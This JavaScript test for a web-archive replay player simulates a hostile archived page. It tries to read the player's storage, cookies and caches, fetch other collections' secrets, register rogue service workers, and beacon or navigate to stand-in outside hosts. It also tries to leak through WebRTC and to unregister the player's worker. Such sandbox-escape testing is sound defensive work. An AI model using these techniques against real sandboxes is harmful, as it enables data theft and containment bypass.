// An archived page that tries to leave its place. `HOSTS` says where the test listens, and what to look for; `page` is
// the page's window. The script runs in the window of an empty frame, whose objects are the browser's own: the player
// replaced none of them. `page.report` has what each attempt got, and `page.done` is true when all have ended.
"use strict";
const report = page.report = {};
const window = globalThis;
const raw = window;
const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const within = (promise) => Promise.race([promise, wait(2500).then(() => "nothing within 2.5 s")]);
const attempts = [];
const departures = []; // what leads the page itself elsewhere comes last: `page.leave()`
const attempt = (name, run) => attempts.push((async () => {
  try {
    report[name] = String(await within(run()));
  } catch (error) {
    report[name] = `refused: ${error && error.name}`;
  }
})());
const emptyWindow = (owner) => {
  const found = owner || page.document;
  const frame = found.createElement("iframe");
  (found.body || found.documentElement).append(frame);
  return frame.contentWindow;
};
const parentOf = Object.getOwnPropertyDescriptor(raw, "parent").get;
const player = parentOf.call(page);
page.document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>");
const other = page[page.length - 1];
const root = player.location.href.split("/replay/")[0]; // with the ticket, if there is one
const archived = (url) => `${root}/w/${HOSTS.collection}/2026id_/${url}`;

for (const [name, script, scope] of [
  ["worker of the page", archived(`${HOSTS.site}/sw.js`), `${root}/w/${HOSTS.collection}/`],
  ["worker of the page below the player", archived(`${HOSTS.site}/sw.js`), `${root}/replay/`],
  ["worker without our policy", `${root}/player/sw.js`, `${root}/player/`],
  ["worker of the bar", `${root}/static/play.js`, `${root}/static/`],
  ["worker by the player", `${root}/replay/w/${HOSTS.collection}/2026sw_/${HOSTS.site}/sw.js`, `${root}/replay/w/`],
]) {
  for (const owner of [player, other, raw]) {
    attempt(`${name} ${owner === player}`, async () =>
      `registered ${(await owner.navigator.serviceWorker.register(script, { scope })).scope}`);
  }
}
attempt("databases", async () => (await player.indexedDB.databases()).map((each) => each.name).join(" "));
attempt("caches", async () => (await player.caches.keys()).join(" "));
attempt("storage", async () => JSON.stringify({ ...player.localStorage }) + JSON.stringify({ ...player.sessionStorage }));
attempt("cookies", async () => {
  for (const domain of ["localhost", "127.0.0.1"]) {
    other.document.cookie = `planted=by-archive; domain=${domain}; path=/`;
  }
  return other.document.cookie;
});

HOSTS.secrets.forEach((address, number) => {
  attempt(`fetch of another collection ${number}`, async () => (await other.fetch(address)).text());
  attempt(`frame of another collection ${number}`, async () => {
    const frame = page.document.createElement("iframe");
    frame.src = address;
    page.document.body.append(frame);
    await wait(1500);
    return frame.contentDocument ? frame.contentDocument.documentElement.textContent : "of another origin";
  });
});
attempt("other collection by our own address", async () =>
  (await player.fetch(`${root}/w/${HOSTS.other}/2026id_/${HOSTS.site}/secret`)).text());
attempt("all collections by our own address", async () =>
  (await player.fetch(`${root}/w/2026id_/${HOSTS.site}/secret`)).text());
attempt("start page by our own address", async () => (await player.fetch(`${root}/`)).text());

for (const [place, out] of Object.entries(HOSTS.outside)) {
  const ws = out.replace("http", "ws");
  for (const [name, realm] of [["own", page], ["raw", raw], ["other", other], ["player", player]]) {
    const make = (tag, values) => realm.document.body.append(Object.assign(realm.document.createElement(tag), values));
    attempt(`${place} ${name} fetch`, async () => (await realm.fetch(`${out}/fetch`, { mode: "no-cors" })).type);
    attempt(`${place} ${name} xhr`, () => new Promise((resolve) => {
      const asked = new realm.XMLHttpRequest();
      asked.onloadend = () => resolve(asked.status);
      asked.open("POST", `${out}/xhr`);
      asked.send("x");
    }));
    attempt(`${place} ${name} beacon`, async () => realm.navigator.sendBeacon(`${out}/beacon`, "x"));
    attempt(`${place} ${name} socket`, async () => new realm.WebSocket(`${ws}/socket`).url);
    attempt(`${place} ${name} transport`, () => new realm.WebTransport(out.replace("http:", "https:")).ready);
    attempt(`${place} ${name} events`, async () => new realm.EventSource(`${out}/events`).url);
    attempt(`${place} ${name} elements`, async () => {
      for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet", "icon", "prerender"]) {
        make("link", { rel, href: `${out}/link-${rel}`, as: "image" });
      }
      make("img", { src: `${out}/img` });
      make("script", { src: `${out}/script.js` });
      make("video", { src: `${out}/video` });
      make("object", { data: `${out}/object` });
      make("embed", { src: `${out}/embed` });
      make("iframe", { src: `${out}/frame` });
      make("script", { type: "speculationrules", textContent: JSON.stringify({
        prefetch: [{ source: "list", urls: [`${out}/speculation`] }],
        prerender: [{ source: "list", urls: [`${out}/prerendered`] }],
      }) });
      return "made";
    });
    for (const target of ["_blank", "_top", "somewhere", "_parent"]) {
      departures.push(() => {
        const form = make("form", { action: `${out}/form`, method: "POST", target });
        form.submit();
      }, () => make("a", { href: `${out}/link`, ping: `${out}/ping`, target }).click());
    }
    departures.push(() => realm.open(`${out}/window`), () => { realm.top.location.href = `${out}/top`; });
  }
  const code = `for (const run of [() => fetch("${out}/worker-fetch", {mode: "no-cors"}),
    () => new WebSocket("${ws}/worker-socket"), () => importScripts("${out}/worker.js"),
    () => new EventSource("${out}/worker-events"), () => new WebTransport("${out.replace("http:", "https:")}"),
    () => new Worker("data:text/javascript,fetch('${out}/nested')"),
    () => new RTCPeerConnection({iceServers: [{urls: "${HOSTS.stun}"}]}).createDataChannel("x")]) {
      try { Promise.resolve(run()).catch(() => {}); } catch {} }`;
  attempt(`${place} blob worker`, async () => new raw.Worker(URL.createObjectURL(new Blob([code])))
    && new raw.SharedWorker(URL.createObjectURL(new Blob([code]))) && "made");
  attempt(`${place} data worker`, async () => new raw.Worker(`data:text/javascript,${encodeURIComponent(code)}`)
    && "made");
  attempt(`${place} archived worker`, async () => new raw.Worker(archived(`${HOSTS.site}/worker.js`)) && "made");
  for (const above of [parentOf.call(player), player]) {
    departures.push(() => {
      const link = above.document.createElement("a");
      Object.assign(link, { href: `${out}/above`, target: "_top" });
      above.document.body.append(link);
      link.click();
    }, () => { emptyWindow(above.document).top.location.href = `${out}/above-top`; }, () => {
      const script = above.document.createElement("script");
      script.src = archived(`${HOSTS.site}/leave.js`);
      above.document.body.append(script);
    }, () => {
      const meta = above.document.createElement("meta");
      Object.assign(meta, { httpEquiv: "refresh", content: `0; url=${out}/refresh` });
      above.document.head.append(meta);
    });
  }
}

page.leave = () => {
  for (const each of departures) {
    try {
      each();
    } catch { /* the attempt was refused */ }
  }
};
const peer = async (realm) => {
  const found = new realm.RTCPeerConnection({ iceServers: [{ urls: HOSTS.stun }] });
  found.createDataChannel("x");
  await found.setLocalDescription(await found.createOffer());
  await wait(1500);
  return found.iceGatheringState;
};
const peerText = `<script>(${peer.toString().replace("HOSTS.stun", JSON.stringify(HOSTS.stun))
  .replace("wait(1500)", "0")})(window)</` + "script>";
if (HOSTS.tries_webrtc) {
  attempt("peer of the page", () => peer(page));
  attempt("peer of a frame", () => peer(raw));
  attempt("peer of a frame in a text", () => peer(other));
  attempt("peer of a frame's frame", () => peer(emptyWindow(raw.document)));
  attempt("peer of a frame while it loads", async () => {
    const holder = page.document.createElement("div");
    page.document.body.append(holder);
    holder.attachShadow({ mode: "closed" }).innerHTML = "<iframe></iframe>";
    return peer(page[page.length - 1]);
  });
  attempt("peer of a frame's text", async () => {
    const frame = page.document.createElement("iframe");
    frame.srcdoc = peerText;
    page.document.body.append(frame);
    page.document.body.insertAdjacentHTML("beforeend", "<iframe id=text></iframe>");
    page.document.getElementById("text").setAttribute("srcdoc", `<!doctype html>${peerText}`);
    await wait(1500);
    return "made";
  });
  attempt("peer of a blob's frame", async () => {
    const frame = raw.document.createElement("iframe");
    frame.src = URL.createObjectURL(new Blob([peerText], { type: "text/html" }));
    raw.document.body.append(frame);
    await wait(1500);
    return "made";
  });
}

(async () => {
  await Promise.allSettled(attempts);
  // Last, the player's worker goes, and a document without its policies is looked for.
  attempts.length = 0;
  const registered = await player.navigator.serviceWorker?.getRegistrations(); // the proxy's replay has no worker
  report.workers = registered?.map((each) => each.scope).join(" ");
  attempt("without the worker", async () => {
    for (const each of registered) await each.unregister();
    const played = `${root}/replay/w/${HOSTS.collection}/2026mp_/${HOSTS.site}/escape`;
    const found = await Promise.all([archived(`${HOSTS.site}/escape`), played].map(async (place) => {
      const frame = raw.document.createElement("iframe");
      frame.src = place;
      raw.document.body.append(frame);
      await wait(1500);
      try {
        return frame.contentWindow.escaped || "not escaped";
      } catch {
        return "of another origin";
      }
    }));
    return found.join(", ");
  });
  await Promise.allSettled(attempts);
  await wait(500);
  page.done = true;
})();
